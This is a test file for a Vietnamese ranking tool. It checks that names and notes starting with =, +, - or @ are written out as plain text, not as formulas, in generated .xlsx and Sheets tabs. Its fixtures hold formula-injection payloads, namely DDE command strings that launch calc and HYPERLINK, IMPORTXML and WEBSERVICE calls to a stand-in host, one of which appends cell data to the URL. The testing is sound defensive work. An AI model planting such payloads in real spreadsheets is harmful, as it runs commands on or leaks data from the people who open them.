/**
 * Formula injection: unit names, group names, criterion names and appraisal notes that begin with `=`, `+`,
 * `-` or `@` (or look like numbers) are copied into the generated tabs. They must arrive as plain text: in
 * the .xlsx OUT as string cells with no formula, and in Sheets (the fake, through the bundle) as text, so
 * that no one opening the ranking runs a formula a unit typed.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import type { Cell, Workbook } from '../../src/core/types';
import { baseWorkbook, setCell, sheetOf } from '../fixtures/bad/base';
import { loadBundle } from './bundle';
import { runCli, writeCorpusXlsx } from './helpers';

const UNITS = ['=1+1', '+SUM(1;2)', '-2+3', '@cmd|"/c calc"!A0'];
const GROUPS = ['=HYPERLINK("http://example.invalid/?"&A1;"xem")', '1,10'];
const CRITERIA: [code: string, row: string, name: string][] = [
  ['1.1', 'B3', '=IMPORTXML("http://example.invalid/";"//a")'],
  ['2.3', 'B8', '+cmd|"/c calc"!A0'],
  ['2.4', 'B9', '-1+1'],
  ['3.1', 'B11', '@SUM(1)'],
];
const NOTES = ['=WEBSERVICE("http://example.invalid/")', '+1', "-'ghi chú'", "'=trích dẫn"];

/** Four units with Huyện A's data (so 1.1, 2.3, 2.4 and 3.1 are in the deductions tab), no survey sheet. */
function injectionWorkbook(): Workbook {
  const plain = baseWorkbook('plain');
  const criteria = sheetOf(plain, 'Tiêu chí');
  const unit = sheetOf(plain, 'Huyện A');
  const workbook: Workbook = {
    sheets: [
      criteria,
      {
        name: 'Đơn vị',
        values: [
          ['Đơn vị', 'Tên sheet', 'Khối'],
          ...UNITS.map((name, i): Cell[] => [name, `DV${i + 1}`, GROUPS[i % 2] as string]),
        ],
      },
      ...UNITS.map((_, i) => ({ name: `DV${i + 1}`, values: structuredClone(unit.values) })),
    ],
  };
  for (const [, cell, name] of CRITERIA) setCell(workbook, 'Tiêu chí', cell, name);
  NOTES.forEach((note, i) => setCell(workbook, `DV${i + 1}`, 'I2', note));
  return workbook;
}

const TEXTS = [...UNITS, ...GROUPS, ...CRITERIA.map(([, , name]) => name), ...NOTES];

describe('the command line writes them into OUT as strings', () => {
  let dir: string;
  let book: ExcelJS.Workbook;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'par-injection-'));
    const input = join(dir, 'in.xlsx');
    const out = join(dir, 'out.xlsx');
    await writeCorpusXlsx(injectionWorkbook(), input);
    const run = runCli(['rank', input, '--out', out]);
    expect(run.status).toBe(0);
    book = new ExcelJS.Workbook();
    await book.xlsx.readFile(out);
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('holds no formula anywhere in the generated tabs', () => {
    for (const name of ['Xếp hạng', 'Trừ điểm']) {
      const worksheet = book.getWorksheet(name);
      if (!worksheet) throw new Error(`no ${name} in OUT`);
      worksheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect({ at: `${name}!${cell.address}`, type: cell.type }).not.toEqual({
            at: `${name}!${cell.address}`,
            type: ExcelJS.ValueType.Formula,
          });
          expect(cell.formula ?? '').toBe('');
        }),
      );
    }
  });

  it.each(TEXTS)('%s is a string cell holding exactly that text', (text) => {
    const found: ExcelJS.Cell[] = [];
    for (const name of ['Xếp hạng', 'Trừ điểm']) {
      book.getWorksheet(name)?.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.value === text) found.push(cell);
        }),
      );
    }
    expect(found.length).toBeGreaterThan(0);
    for (const cell of found) expect(cell.type).toBe(ExcelJS.ValueType.String);
  });
});

describe('the bundle writes them into the sheet as text', () => {
  const bundle = loadBundle(injectionWorkbook());
  const result = bundle.call('recomputeRanking') as { errors: unknown[] };
  const snapshot = bundle.env.snapshot();

  it('scores every unit', () => {
    expect(result.errors).toEqual([]);
  });

  it('writes no formula in the generated tabs: getFormulas() gives only empty strings', () => {
    for (const name of ['Xếp hạng', 'Trừ điểm']) {
      const formulas = bundle.env.uncounted(() =>
        bundle.env.spreadsheet.getSheetByName(name)?.getDataRange().getFormulas(),
      );
      if (!formulas) throw new Error(`no ${name}`);
      expect(formulas.flat().filter((formula) => formula !== '')).toEqual([]);
      expect(formulas.flat().length).toBeGreaterThan(10);
    }
  });

  it.each(TEXTS)('%s is stored as that very text', (text) => {
    const values = [...(snapshot['Xếp hạng'] ?? []), ...(snapshot['Trừ điểm'] ?? [])].flat();
    expect(values).toContain(text);
  });
});
